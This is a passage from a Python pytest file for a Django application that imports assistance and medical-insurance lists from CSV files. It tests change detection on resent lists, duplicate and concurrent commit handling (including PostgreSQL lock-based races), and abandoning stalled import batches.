    imported(path, by=officer, source="assistance", area=areas["city"])
    assert imported(path, by=officer, source="medical_insurance", area=areas["city"]).state == State.COMMITTED


def test_resent_list_with_changes_applies_only_the_changes(officer, areas, tmp_path):
    a, b, c, d = (make_person(by=officer, area=areas["beijiang"], name=name, sequence=seq)
                  for name, seq in (("甲", 11), ("乙", 13), ("丙", 15), ("丁", 17)))
    imported(write_csv(tmp_path / "june.csv", [ASSISTANCE_HEADER, [a.id_number, "甲", "低保", "2024-01-01"],
                                               [b.id_number, "乙", "低保", "2024-02-01"],
                                               [c.id_number, "丙", "低保", "2024-03-01"]]),
             by=officer, source="assistance", area=areas["city"], list_date=date(2024, 6, 30))
    july = write_csv(tmp_path / "july.csv", [ASSISTANCE_HEADER, [a.id_number, "甲", "低保", "2024-01-01"],
                                             [b.id_number, "乙", "低保", "2024-02-15"],
                                             [d.id_number, "丁", "低保", "2024-07-01"]])
    dry = validated(july, by=officer, source="assistance", area=areas["city"], list_date=date(2024, 7, 31))
    assert (dry.new_count, dry.changed_count, dry.ended_count, dry.unchanged_count) == (1, 1, 1, 1)
    batch = services.import_commit(batch=dry, by=officer)
    assert (batch.new_count, batch.changed_count, batch.ended_count, batch.unchanged_count) == (1, 1, 1, 1)
    assert _open_spells(a) == [("dibao", date(2024, 1, 1))]
    assert _open_spells(b) == [("dibao", date(2024, 2, 15))]
    assert _open_spells(c) == []
    assert AssistanceStatus.objects.get(person=c).ended_on == date(2024, 7, 31)
    assert _open_spells(d) == [("dibao", date(2024, 7, 1))]
    assert AssistanceStatus.objects.count() == 4


def test_resent_records_list_with_changes_counts_new_changed_and_unchanged(officer, areas, tmp_path):
    a, b, c = (make_person(by=officer, area=areas["beijiang"], name=name, sequence=seq)
               for name, seq in (("甲", 11), ("乙", 13), ("丙", 15)))
    imported(write_csv(tmp_path / "v1.csv", [MEDICAL_HEADER, [a.id_number, "甲", "2024-01-01", "", "居民医保"],
                                             [b.id_number, "乙", "2024-01-01", "", "居民医保"]]),
             by=officer, source="medical_insurance", area=areas["city"])
    batch = imported(write_csv(tmp_path / "v2.csv", [MEDICAL_HEADER, [a.id_number, "甲", "2024-01-01", "", "居民医保"],
                                                     [b.id_number, "乙", "2024-01-01", "2025-03-31", "居民医保"],
                                                     [c.id_number, "丙", "2025-01-01", "", "职工医保"]]),
                     by=officer, source="medical_insurance", area=areas["city"])
    assert (batch.new_count, batch.changed_count, batch.ended_count, batch.unchanged_count) == (1, 1, 0, 1)
    assert DepartmentRecord.objects.get(person=b).ended_on == date(2025, 3, 31)
    assert DepartmentRecord.objects.count() == 3


# --- concurrency ---------------------------------------------------------------------------------


def test_second_commit_of_the_same_batch_is_refused_and_applies_nothing(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER, [zhang.id_number, "张三丰", "低保", "2024-01-01"]])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    stale = ImportBatch.objects.get(pk=batch.pk)  # a second officer's page, loaded before the first click
    services.import_commit(batch=batch, by=officer)
    with pytest.raises(ValidationError) as excinfo:
        services.import_commit(batch=stale, by=officer)
    assert "已导入" in excinfo.value.messages[0]
    assert AssistanceStatus.objects.filter(person=zhang).count() == 1
    assert ImportBatch.objects.get(pk=batch.pk).state == State.COMMITTED


def test_two_batches_of_one_file_validated_together_commit_once(officer, areas, zhang, tmp_path):
    path = write_csv(tmp_path / "a.csv", [MEDICAL_HEADER, [zhang.id_number, "张三丰", "2024-01-01", "", "居民医保"]])
    first = services.import_validate(batch=batch_create(path, by=officer, source="medical_insurance", area=areas["city"]))
    second = services.import_validate(batch=batch_create(path, by=officer, source="medical_insurance", area=areas["city"]))
    assert first.state == second.state == State.VALIDATED
    first = services.import_commit(batch=first, by=officer)
    second = services.import_commit(batch=second, by=officer)
    assert first.state == State.COMMITTED
    assert second.state == State.DUPLICATE
    assert f"#{first.pk}" in second.message
    assert DepartmentRecord.objects.filter(person=zhang).count() == 1
    assert ImportBatch.objects.get(pk=second.pk).committed_at is None


@pytest.mark.django_db(transaction=True)
def test_two_officers_committing_one_batch_at_once_apply_it_once(officer, areas, tmp_path, settings):
    settings.IMPORT_DIR = tmp_path / "imports"
    people = [make_person(by=officer, area=areas["beijiang"], name="张三丰", sequence=s) for s in (11, 13, 15)]
    path = write_csv(tmp_path / "a.csv", [ASSISTANCE_HEADER] + [[p.id_number, "张三丰", "低保", "2024-01-01"]
                                                                for p in people])
    batch = validated(path, by=officer, source="assistance", area=areas["city"])
    outcomes = race(lambda _i: services.import_commit(batch=ImportBatch.objects.get(pk=batch.pk), by=officer))
    refused = [o for o in outcomes if isinstance(o, ValidationError)]
    applied = [o for o in outcomes if isinstance(o, ImportBatch)]
    assert len(refused) == 1 and len(applied) == 1
    assert applied[0].state == State.COMMITTED
    assert AssistanceStatus.objects.count() == 3


@pytest.mark.django_db(transaction=True)
def test_two_batches_of_one_file_committed_at_once_apply_it_once(officer, areas, tmp_path, settings):
    if connection.vendor == "sqlite":
        pytest.skip("SQLite lets one writer in at a time; the race is run on PostgreSQL")
    settings.IMPORT_DIR = tmp_path / "imports"
    people = [make_person(by=officer, area=areas["beijiang"], name="张三丰", sequence=s) for s in (11, 13, 15)]
    path = write_csv(tmp_path / "a.csv", [MEDICAL_HEADER] + [[p.id_number, "张三丰", "2024-01-01", "", "居民医保"]
                                                             for p in people])
    batches = [validated(path, by=officer, source="medical_insurance", area=areas["city"]) for _ in range(2)]
    outcomes = race(lambda i: services.import_commit(batch=batches[i], by=officer))
    assert sorted(o.state for o in outcomes) == [State.COMMITTED, State.DUPLICATE]
    assert DepartmentRecord.objects.count() == 3


@pytest.mark.django_db(transaction=True)
def test_two_different_lists_writing_the_same_record_at_once_leave_the_loser_ready_to_retry(
        officer, areas, tmp_path, settings):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL's table locks to line the two commits up")
    settings.IMPORT_DIR = tmp_path / "imports"
    a = make_person(by=officer, area=areas["beijiang"], name="甲", sequence=11)
    b = make_person(by=officer, area=areas["beijiang"], name="乙", sequence=13)
    row_a = [a.id_number, "甲", "2024-01-01", "", "居民医保"]
    batches = [validated(write_csv(tmp_path / "v1.csv", [MEDICAL_HEADER, row_a]), by=officer,
                         source="medical_insurance", area=areas["city"]),
               validated(write_csv(tmp_path / "v2.csv", [MEDICAL_HEADER, row_a, [b.id_number, "乙", "2024-01-01", "",
                                                                                 "居民医保"]]),
                         by=officer, source="medical_insurance", area=areas["city"])]
    locked, release = threading.Event(), threading.Event()

    def hold_the_table():
        # Both commits read "no record yet", then queue at their INSERT until the lock is let go.
        from django.db import transaction
        try:
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute("LOCK TABLE exchange_departmentrecord IN SHARE ROW EXCLUSIVE MODE")
                locked.set()
                release.wait(20)
        finally:
            connection.close()

    holder = threading.Thread(target=hold_the_table)
    holder.start()
    assert locked.wait(10)
    racers = []
    outcomes = []
    for batch in batches:
        racer = threading.Thread(target=lambda batch=batch: (
            outcomes.append(services.import_commit(batch=batch, by=officer)), connection.close()))
        racer.start()
        racers.append(racer)
    with connection.cursor() as cursor:
        for _attempt in range(200):
            cursor.execute("SELECT count(*) FROM pg_locks WHERE relation = 'exchange_departmentrecord'::regclass "
                           "AND NOT granted")
            if cursor.fetchone()[0] == 2:
                break
            threading.Event().wait(0.05)
    release.set()
    for thread in [holder, *racers]:
        thread.join(20)
    states = sorted(o.state for o in outcomes)
    assert states == [State.COMMITTED, State.VALIDATED], "a different file is never called a duplicate"
    loser = next(o for o in outcomes if o.state == State.VALIDATED)
    assert "重新确认导入" in loser.message
    retried = services.import_commit(batch=loser, by=officer)
    assert (retried.state, retried.message) == (State.COMMITTED, "")
    assert sorted(DepartmentRecord.objects.values_list("person__name", flat=True)) == ["乙", "甲"]


def test_batch_left_in_progress_by_a_dead_worker_can_be_abandoned_and_changes_nothing(officer, areas, tmp_path):
    path = write_csv(tmp_path / "list.csv", [["身份证号", "姓名", "救助类型", "起始日期"]])
    batch = batch_create(path, by=officer, source="assistance", area=areas["city"])
    ImportBatch.objects.filter(pk=batch.pk).update(state=ImportBatch.State.COMMITTING)
    batch.refresh_from_db()
    services.import_abandon(batch=batch, by=officer)
    batch.refresh_from_db()
    assert batch.state == ImportBatch.State.DISCARDED
    assert "放弃" in batch.message
    with pytest.raises(ValidationError):
        services.import_abandon(batch=batch, by=officer)
